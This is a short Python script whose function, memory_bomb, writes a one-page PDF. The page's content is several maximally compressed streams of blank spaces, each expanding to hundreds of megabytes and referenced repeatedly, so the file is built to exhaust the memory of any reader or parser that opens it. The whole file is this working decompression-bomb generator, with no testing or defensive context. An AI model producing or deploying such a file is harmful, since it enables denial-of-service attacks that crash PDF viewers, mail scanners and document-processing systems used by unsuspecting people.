"""A small file that takes more memory than there is."""

import zlib

MB = 1 << 20


def memory_bomb(streams: int = 6, stream_mb: int = 700) -> bytes:
    """A PDF of one page whose contents are blanks, packed a thousand to one."""
    packer = zlib.compressobj(9)
    blanks = b"".join(packer.compress(b" " * MB) for _ in range(stream_mb)) + packer.flush()
    content = b"<< /Filter /FlateDecode /Length %d >> stream\n" % len(blanks) + blanks
    names = b" ".join(b"%d 0 R" % (4 + number) for number in range(streams))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [%s] >>" % names,
        *[content + b"\nendstream"] * streams,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % count
    tail = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(out))
    return out + head + table + tail
